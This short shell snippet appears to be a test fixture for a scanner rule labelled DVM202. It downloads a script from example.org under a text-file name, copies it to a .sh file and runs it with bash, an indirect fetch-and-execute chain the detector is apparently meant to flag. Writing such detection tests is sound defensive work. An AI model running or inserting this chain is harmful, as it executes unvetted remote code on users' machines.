# expect: DVM202
curl -fsSL -o a.txt https://example.org/i.sh
cp a.txt b.sh
bash ./b.sh
